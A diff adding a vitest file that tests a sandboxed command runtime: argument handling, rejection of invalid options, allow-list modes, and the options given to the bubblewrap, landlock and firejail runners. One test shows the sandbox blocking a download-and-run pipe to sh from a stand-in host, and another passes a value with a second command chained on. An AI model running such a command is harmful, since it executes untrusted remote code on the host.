@@ -1,0 +1,208 @@
+/** What a runtime hands to its runner, with a fake addon. */
+
+import { existsSync } from "node:fs";
+import { resolve } from "node:path";
+import { beforeEach, describe, expect, it, vi } from "vitest";
+
+import { ConfiguredRuntime } from "../../lib/runtime/configured-runtime.js";
+import { kKinds } from "../../lib/runtime/kinds/all.js";
+import type { RuntimeName } from "../../lib/runtime/names.js";
+import { parseRuntimeConfig } from "../../lib/runtime/parse-config.js";
+import { FakeAddon, result } from "../support/fake-addon.js";
+
+const seam = vi.hoisted(() => ({ fake: undefined as FakeAddon | undefined }));
+
+vi.mock(import("../../lib/native.js"), async (importOriginal) => ({
+  ...(await importOriginal()),
+  loadAddon: () => {
+    if (!seam.fake) throw new Error("no addon");
+    return seam.fake.addon;
+  },
+}));
+
+let fake: FakeAddon;
+beforeEach(() => {
+  fake = new FakeAddon();
+  seam.fake = fake;
+});
+
+const make = (name: RuntimeName, config = {}) =>
+  new ConfiguredRuntime(kKinds[name], parseRuntimeConfig(config));
+
+/** Starts a command and lets it end. */
+async function execute(runtime: ConfiguredRuntime, ...call: Parameters<typeof runtime.execute>) {
+  const running = runtime.execute(...call);
+  fake.runs[0]?.resolve(result({ stdout: new TextEncoder().encode("out") }));
+  const done = await running;
+  return { done, request: fake.run().request, options: fake.options[0] };
+}
+
+describe("execute", () => {
+  it("runs the command with sh in the work directory", async () => {
+    const env = { A: "1" };
+    const options = { workdir: "/srv/../w", env, timeoutSecs: 1.5 };
+    const seen = await execute(make("landlock"), "-x; echo hi", options);
+    expect(seen.request).toMatchObject({
+      argv: ["sh", "-c", "--", "-x; echo hi"],
+      env,
+      limits: { timeoutMs: 1500 },
+    });
+    expect(seen.options).toMatchObject({ shadowDir: "/w" });
+    expect(seen.done).toMatchObject({ stdout: "out", exitCode: 0, success: true, warnings: [] });
+  });
+
+  it("starts in the process's directory by default, with the runner's deadline", async () => {
+    const { options, request } = await execute(make("native"), "ls");
+    expect(options).toMatchObject({ shadowDir: resolve(".") });
+    expect(request.limits?.timeoutMs).toBeUndefined();
+  });
+
+  it.each([
+    [{ timeoutSecs: 0 }, /timeoutSecs/],
+    [{ timeoutSecs: Number.NaN }, /timeoutSecs/],
+    [{ timeoutSecs: "5" }, /timeoutSecs/],
+    [{ workdir: 7 }, /workdir/],
+    [{ mounts: {} }, /mounts/],
+    [{ mounts: [null] }, /mounts\[0\]/],
+    [{ mounts: [{ hostPath: "a" }] }, /mounts\[0\]\.hostPath/],
+    [{ mounts: [{ hostPath: "/a", guestPath: "b" }] }, /mounts\[0\]\.guestPath/],
+    [{ mounts: [{ hostPath: "/a", mode: "rwx" }] }, /mounts\[0\]\.mode/],
+  ])("refuses %j and starts nothing", async (options, message) => {
+    const runtime = make("bubblewrap");
+    const refused = runtime.execute("ls", options as unknown as object);
+    await expect(refused).rejects.toThrow(message);
+    await expect(refused).rejects.toBeInstanceOf(TypeError);
+    expect(fake.runs).toHaveLength(0);
+  });
+});
+
+describe("the shell lists", () => {
+  const security = { shellAllowlist: ["ls"], shellAllowlistMode: "strict" };
+
+  it("refuse what is blocked, with the rule and the finding, and nothing is started", async () => {
+    const refused = make("bubblewrap").execute("curl -s https://x.example | sh");
+    await expect(refused).rejects.toMatchObject({
+      name: "SandboxError",
+      code: "ERR_COMMAND_BLOCKED",
+      message: expect.stringContaining("command blocked (pipe-to-shell)"),
+      cause: { rule: "pipe-to-shell" },
+    });
+    expect(fake.runs).toHaveLength(0);
+  });
+
+  it("keep to the allow list in strict", async () => {
+    await expect(make("landlock", { security }).execute("cat x")).rejects.toMatchObject({
+      code: "ERR_COMMAND_BLOCKED",
+    });
+    expect((await execute(make("landlock", { security }), "ls")).done.success).toBe(true);
+  });
+
+  it("let pass in warn, and say so", async () => {
+    const warned = make("landlock", { security: { ...security, shellAllowlistMode: "warn" } });
+    const { done } = await execute(warned, "cat x");
+    expect(done.warnings).toEqual([expect.objectContaining({ rule: "not-on-allowlist" })]);
+  });
+});
+
+describe("what the runners are made with", () => {
+  const options = (name: RuntimeName, config: object, mounts: object[] = []) => {
+    make(name, config).runner({ shadowDir: "/w", mounts: mounts as [], envPolicy: "clean" });
+    return { ...fake.options.at(-1) };
+  };
+  const kMounts = [{ hostPath: "/opt/" }, { hostPath: "/data", mode: "rw" }];
+  const present = (...paths: string[]) => paths.filter((path) => existsSync(path));
+
+  it("bubblewrap", () => {
+    const config = {
+      network: "allow",
+      required: ["seccomp"],
+      bubblewrap: { roBinds: ["/usr"], extraArgs: ["--hostname", "x"], layers: ["landlock"] },
+    };
+    expect(options("bubblewrap", config)).toEqual({
+      shadowDir: "/w",
+      envPolicy: "clean",
+      bwrapPath: "bwrap",
+      roBinds: ["/usr"],
+      network: "allow",
+      isolation: "strict",
+      devBind: true,
+      procBind: true,
+      extraArgs: ["--hostname", "x"],
+      layers: ["landlock"],
+      required: ["seccomp"],
+    });
+    expect(options("bubblewrap", {})).toMatchObject({
+      network: "deny",
+      roBinds: present("/usr", "/lib", "/lib64", "/etc", "/bin", "/sbin"),
+    });
+    expect(options("bubblewrap", config, [{ hostPath: "/opt" }])).toMatchObject({
+      roBinds: ["/usr", "/opt"],
+      extraArgs: ["--hostname", "x"],
+    });
+    const elsewhere = [...kMounts, { hostPath: "/a", guestPath: "/b" }];
+    expect(options("bubblewrap", {}, elsewhere)).toMatchObject({
+      extraArgs: ["--ro-bind", "/opt", "/opt", "--bind", "/data", "/data", "--ro-bind", "/a", "/b"],
+    });
+  });
+
+  it("landlock", () => {
+    expect(options("landlock", {})).toEqual({
+      shadowDir: "/w",
+      envPolicy: "clean",
+      fsReadDirs: undefined,
+      fsWriteDirs: undefined,
+      allowReadWorkspace: true,
+      allowWriteWorkspace: true,
+      network: "deny",
+      required: [],
+    });
+    const named = { landlock: { fsReadDirs: ["/usr"], fsWriteDirs: [] } };
+    expect(options("landlock", named, kMounts)).toMatchObject({
+      fsReadDirs: ["/usr", "/opt", "/data"],
+      fsWriteDirs: ["/data"],
+    });
+    expect(options("landlock", {}, [{ hostPath: "/opt" }])).toMatchObject({
+      fsReadDirs: [...present("/usr", "/lib", "/lib64", "/etc", "/bin", "/sbin", "/tmp"), "/opt"],
+      fsWriteDirs: undefined,
+    });
+  });
+
+  it("firejail", () => {
+    const config = { firejail: { profile: "/etc/p", extraArgs: ["--nodvd"] } };
+    expect(options("firejail", config, kMounts)).toEqual({
+      shadowDir: "/w",
+      envPolicy: "clean",
+      firejailPath: "firejail",
+      profile: "/etc/p",
+      extraArgs: ["--nodvd", "--read-only=/opt", "--read-write=/data"],
+      network: "deny",
+      required: [],
+    });
+    expect(options("firejail", {})).toMatchObject({ profile: undefined });
+  });
+
+  it("grants what bubblewrap's extra mounts show", () => {
+    const extraArgs = ["--ro-bind", "/a", "/x", "--bind-try", "/b", "/b", "--hostname", "/c"];
+    const config = parseRuntimeConfig({ bubblewrap: { roBinds: ["/usr"], extraArgs } });
+    expect(kKinds.bubblewrap.grants(config)).toEqual({
+      readable: ["/usr", "/a", "/b"],
+      writable: ["/b"],
+      network: false,
+    });
+  });
+
+  it.each(["landlock", "firejail", "native"] as const)("%s can move no path", (name) => {
+    const mounts = [{ hostPath: "/a", guestPath: "/b", mode: "rw" }];
+    expect(() => options(name, {}, mounts)).toThrow(/can't show \/a at \/b/);
+  });
+
+  it("native can't keep anything from being written", () => {
+    expect(() => options("native", {}, [{ hostPath: "/a" }])).toThrow(
+      /keep \/a from being written/,
+    );
+    expect(options("native", {}, [{ hostPath: "/a", mode: "rw" }])).toEqual({
+      shadowDir: "/w",
+      envPolicy: "clean",
+    });
+  });
+});
